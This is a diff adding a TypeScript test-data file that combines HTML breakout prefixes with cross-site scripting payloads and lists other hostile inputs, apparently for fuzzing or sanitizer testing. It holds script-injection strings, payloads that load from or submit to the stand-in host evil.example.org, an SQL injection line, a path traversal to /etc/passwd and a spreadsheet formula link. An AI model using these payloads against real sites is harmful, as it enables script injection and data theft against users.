@@ -1,0 +1,83 @@
+/** What breaks out of a place in a page: out of an attribute, an element, a comment, a script. */
+const ways = [
+  '',
+  '">',
+  "'>",
+  '</title>',
+  '</textarea>',
+  '</style>',
+  '</script>',
+  '-->',
+  ']]>',
+  '</noscript>',
+  '</li></ol>',
+];
+
+/** What would run, load, send or lead away once it is out. */
+const evils = [
+  '<script>alert(1)</script>',
+  '<ScRiPt >alert(1)</sCrIpT>',
+  '<script src=//evil.example.org/x.js></script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src=//evil.example.org/x.png>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data=//evil.example.org/x></object>',
+  '<embed src=//evil.example.org/x>',
+  '<link rel=stylesheet href=//evil.example.org/x.css>',
+  '<style>@import "//evil.example.org/y.css"; *{background:url(//evil.example.org/z)}</style>',
+  '<p style="background:url(//evil.example.org/z)">',
+  '<meta http-equiv=refresh content="0;url=//evil.example.org/">',
+  '<base href=//evil.example.org/>',
+  '<details open ontoggle=alert(1)>',
+  '<input autofocus onfocus=alert(1)>',
+  '<body onload=alert(1)>',
+  '<form action=//evil.example.org/><button>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+];
+
+/** What only some readers take for markup, and what turns, hides or piles up letters. */
+const others = [
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;script&#62;alert(1)&#60;/script&#62;',
+  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  '%3Cscript%3Ealert(1)%3C/script%3E',
+  '＜script＞alert(1)＜/script＞',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}',
+  '#{alert(1)}',
+  '<%= alert(1) %>',
+  '[x](javascript:alert(1))',
+  '![x](//evil.example.org/x.png)',
+  '" onmouseover="alert(1)" x="',
+  "' autofocus onfocus='alert(1)",
+  '`onload=alert(1)`',
+  '<!--',
+  '<![CDATA[<script>alert(1)</script>',
+  '<?xml version="1.0"?>',
+  'javascript:alert(1)',
+  '\u202etxet desrever',
+  '\u2066isolated\u2069',
+  'Z\u0351\u036b\u0343a\u0489l\u0334g\u0338o\u0321',
+  '👩‍👧‍👦🇫🇮',
+  '社會科學院',
+  'ثم نفس سقطت',
+  '＂＞＜img src=x onerror=alert(1)＞',
+  'undefined',
+  'null',
+  'NaN',
+  '-1e1000',
+  "'; DROP TABLE person; --",
+  '__proto__',
+  '../../etc/passwd',
+  '=HYPERLINK("//evil.example.org")',
+];
+
+/** Every way out with every evil behind it, and the rest. */
+export const naughtyTexts: readonly string[] = [
+  ...ways.flatMap((way) => evils.map((evil) => way + evil)),
+  ...others,
+];
